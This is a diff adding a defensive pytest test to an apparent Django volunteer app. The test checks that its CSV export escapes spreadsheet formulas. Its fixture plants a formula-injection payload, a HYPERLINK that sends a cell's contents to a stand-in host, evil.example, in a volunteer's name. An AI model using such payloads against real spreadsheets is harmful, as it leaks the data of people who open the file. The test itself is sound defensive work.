@@ -96,6 +96,23 @@ def test_export_holds_only_own_network(as_a, coordinator_a, volunteers, fmt):
     assert entry.user_id == coordinator_a.pk
 
 
+def test_csv_export_never_holds_a_formula(as_a, volunteers):
+    """Whatever the public typed is text in the coordinator's spreadsheet;
+    a phone number keeps its plus sign."""
+    alba = volunteers["a"]
+    Volunteer.objects.filter(pk=alba.pk).update(
+        name='=HYPERLINK("http://evil.example/?"&C2,"clic")',
+        municipality="@SUM(1+1)",
+        phone="+52 962 111 2222",
+    )
+    response = as_a.get(f"{BASE}/", {"export": "csv"})
+    content = b"".join(response.streaming_content).decode("utf-8-sig")
+    row = list(csv.reader(io.StringIO(content)))[1]
+    assert row[0] == '\'=HYPERLINK("http://evil.example/?"&C2,"clic")'
+    assert row[2] == "+52 962 111 2222"
+    assert row[3] == "'@SUM(1+1)"
+
+
 @pytest.mark.parametrize("view", OBJECT_URLS)
 def test_another_networks_volunteer_is_refused_at_every_url(as_a, volunteers, view):
     volunteer = volunteers["b"]
